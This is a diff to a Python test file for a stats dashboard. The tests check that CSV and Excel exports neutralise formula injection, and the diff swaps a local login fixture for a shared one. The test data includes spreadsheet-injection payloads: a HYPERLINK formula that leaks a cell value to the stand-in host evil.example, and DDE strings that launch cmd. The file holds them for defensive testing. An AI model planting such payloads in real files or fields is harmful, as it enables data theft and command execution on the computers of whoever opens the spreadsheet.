@@ -12,25 +12,16 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from auth_helpers import login
 from wxpub.models import StatArticle, StatArticleDaily
-from wxpub.staff import users
 from wxpub.stats.exports import Column, Table, to_csv, to_xlsx
 
 ROOT = Path(__file__).resolve().parents[2]
 SAMPLE_PAGE = ROOT / "tests" / "fixtures" / "import" / "binhai-2023-renwen-page-part1.txt"
-PASSWORD = "Zh4ngsan-2026!"
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
 PAYLOADS = [LEAK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1",
             "＝1+1"]
 
 
-@pytest.fixture
-def editor(app, runtime, clock):
-    with runtime.db.session() as s:
-        users.create_user(s, "zhangsan", PASSWORD, "editor", now=clock.now(), actor="测试")
-    client, _headers = login(app, "zhangsan", PASSWORD)
-    return client
 
 
 def csv_rows(data: bytes) -> list[list[str]]:
@@ -44,10 +35,10 @@ def formulas(xlsx: bytes) -> list[str]:
     return [name for name, xml in sheets.items() if b"<f>" in xml or b"<f " in xml]
 
 
-def test_library_export_keeps_a_hostile_series_name_as_text(cli, editor):
+def test_library_export_keeps_a_hostile_series_name_as_text(cli, editor_client):
     assert cli("import", str(SAMPLE_PAGE), "--series", LEAK).exit_code == 0
 
-    xlsx = editor.get("/dashboard/export/library.xlsx")
+    xlsx = editor_client.get("/dashboard/export/library.xlsx")
     assert xlsx.status_code == 200
     assert formulas(xlsx.data) == []
     sheet = load_workbook(io.BytesIO(xlsx.data)).active
@@ -55,7 +46,7 @@ def test_library_export_keeps_a_hostile_series_name_as_text(cli, editor):
     assert cell.data_type == "s" and cell.value == "'" + LEAK
     assert sheet["C2"].value == 0 and sheet["D2"].value == 5  # counts are still numbers
 
-    rows = csv_rows(editor.get("/dashboard/export/library.csv").data)
+    rows = csv_rows(editor_client.get("/dashboard/export/library.csv").data)
     assert rows[1][0] == "'" + LEAK and rows[1][3] == "5"
 
 
@@ -78,21 +69,21 @@ def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
         assert row[2].data_type == "n" and row[2].value == -3
 
 
-def test_daily_xlsx_of_an_article_whose_title_excel_forbids_as_a_sheet_name(runtime, editor):
+def test_daily_xlsx_of_an_article_whose_title_excel_forbids_as_a_sheet_name(runtime, editor_client):
     title = "=问/答\\：办事指南?*[第1期]:一图读懂营商环境新政策全文解读"
     with runtime.db.session() as s:
         s.add(StatArticle(msgid="2247490098_1", msg_data_id="2247490098", idx=1, title=title,
                           publish_date=date(2026, 3, 1), publish_type=1, read_user=-1))
         s.add(StatArticleDaily(msgid="2247490098_1", stat_date=date(2026, 3, 1), read_user=12))
         s.commit()
-    response = editor.get("/dashboard/export/daily.xlsx?msgid=2247490098_1")
+    response = editor_client.get("/dashboard/export/daily.xlsx?msgid=2247490098_1")
     assert response.status_code == 200
     sheet = load_workbook(io.BytesIO(response.data)).active
     assert not set("/\\?*:[]") & set(sheet.title) and 0 < len(sheet.title) <= 31
     assert sheet.title.startswith("《=问／答＼：办事指南？＊［第1期］")
     assert sheet["A2"].value.date() == date(2026, 3, 1) and sheet["B2"].value == 12
 
-    articles = editor.get("/dashboard/export/articles.xlsx")
+    articles = editor_client.get("/dashboard/export/articles.xlsx")
     assert articles.status_code == 200 and formulas(articles.data) == []
     rows = list(load_workbook(io.BytesIO(articles.data)).active.values)
     assert rows[1][1] == "'" + title and rows[1][4] == -1
